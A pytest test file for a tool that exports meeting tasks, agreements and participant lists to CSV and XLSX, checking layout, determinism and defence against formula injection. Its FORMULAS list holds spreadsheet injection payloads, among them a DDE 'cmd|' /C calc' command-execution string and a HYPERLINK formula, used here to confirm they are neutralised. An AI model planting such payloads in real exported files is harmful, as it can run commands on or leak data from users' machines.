"""Tasks, agreements and lists as CSV and XLSX, whatever people typed into them."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qzlive.documentation import tables_csv, tables_xlsx
from qzlive.documentation.model import Agreement, Documentation, People, Task
from qzlive.documentation.plain import plain_text
from qzlive.documentation.style import PLAIN
from qzlive.documentation.tables import is_like_formula, tables
from qzlive.language import LANGUAGES, Language

from .samples import SMALL, texts

WITH_LISTS = replace(
    SMALL,
    tasks=(
        Task("Verteiler aufbauen", "Koordination", "2022-05-01", 2, "2a"),
        Task("Einladen", variants=("Alle einladen",), item="Zusammenfassung"),
    ),
    agreements=(Agreement("Zwei Treffen im Jahr", 1, "1a"),),
    people=(People("1a", ("Kim Erfunden",)), People("", ("Toni Ausgedacht",))),
)
EMPTY = Documentation("Zirkel", SMALL.date)
FORMULAS = (
    '=HYPERLINK("http://example.org/?x="&A1;"hier")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
    '"=1"', "'=1", " =1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠SUM", "\r=1", "=1\n=2", "\x00=1", "\ufeff=1", "- Punkt",
    "=",
)  # fmt: skip


def rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_a_german_excel_opens_the_lists() -> None:
    files = tables_csv.render(WITH_LISTS, "de", PLAIN)
    assert list(files) == ["aufgaben", "vereinbarungen", "programm", "themen", "ergebnisse", "teilnehmende"]
    assert rows(files["aufgaben"]) == [
        ["Aufgabe", "Wer", "Bis wann", "Thema", "Tisch oder Gruppe", "Programmpunkt"],
        ["Verteiler aufbauen", "Koordination", "2022-05-01", "2", "2a", ""],
        ["Fassung 1: Einladen\nFassung 2: Alle einladen", "", "", "", "", "Zusammenfassung"],
    ]
    assert rows(files["vereinbarungen"])[1] == ["Zwei Treffen im Jahr", "1", "1a", ""]
    assert rows(files["programm"])[1] == ["14:00", "Begrüßung", "", "Neues aus dem Land"]
    found = rows(files["ergebnisse"])
    assert found[2][3:6] == ["Was gelingt?", "2", "einmal im Monat"]
    assert found[5][2] == "1b"
    assert found[-1][1] == SMALL.items[-1].title
    assert rows(files["teilnehmende"])[1:] == [["Kim Erfunden", "1a"], ["Toni Ausgedacht", ""]]


def test_what_there_is_not_has_no_file_and_people_only_with_names() -> None:
    bare = replace(WITH_LISTS, tasks=(), agreements=(), people=())
    assert list(tables_csv.render(bare, "en", PLAIN)) == ["programme", "topics", "results"]
    assert tables(EMPTY, "de") == ()
    empty = tables_xlsx.render(EMPTY, "de", PLAIN)
    assert openpyxl.load_workbook(io.BytesIO(empty)).sheetnames == ["2022-03-30"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_workbook_has_a_sheet_for_each_and_the_same_bytes_each_time(language: Language) -> None:
    content = tables_xlsx.render(WITH_LISTS, language, PLAIN)
    assert content == tables_xlsx.render(WITH_LISTS, language, PLAIN)
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == [table.title for table in tables(WITH_LISTS, language)]
    assert book.properties.title == SMALL.title
    assert (book.properties.created or SMALL.date).strftime("%Y-%m-%d %H") == "2022-03-30 12"
    sheet = book.worksheets[0]
    assert [cell.value for cell in sheet[2]] == ["Verteiler aufbauen", "Koordination", "2022-05-01", 2, "2a", None]
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet["A1"].font.bold) == ("A2", "A1:F3", True)


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_is_computed(text: str) -> None:
    told = Documentation("Zirkel", SMALL.date, tasks=(Task(text, who=text),))
    cell = rows(tables_csv.render(told, "de", PLAIN)["aufgaben"])[1][0]
    assert cell == f"'{plain_text(text)}"
    sheet = openpyxl.load_workbook(io.BytesIO(tables_xlsx.render(told, "de", PLAIN))).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (plain_text(text), "s")
    assert sheet["A2"].quotePrefix


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Elterncafés", "1-2 Mal", "a=b", "5. Mai", "„Ja“", "2022-05-01", "(-)"):
        assert not is_like_formula(text)


@settings(max_examples=30)
@given(st.lists(texts, min_size=1, max_size=4))
def test_every_text_arrives(found: list[str]) -> None:
    told = Documentation("Zirkel", SMALL.date, tasks=tuple(Task(text, text) for text in found))
    plain = [plain_text(text) for text in found]
    written = [row[1] for row in rows(tables_csv.render(told, "de", PLAIN)["aufgaben"])[1:]]
    assert written == [f"'{text}" if is_like_formula(text) else text for text in plain]
    sheet = openpyxl.load_workbook(io.BytesIO(tables_xlsx.render(told, "de", PLAIN))).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert [cell.value or "" for cell in cells] == plain
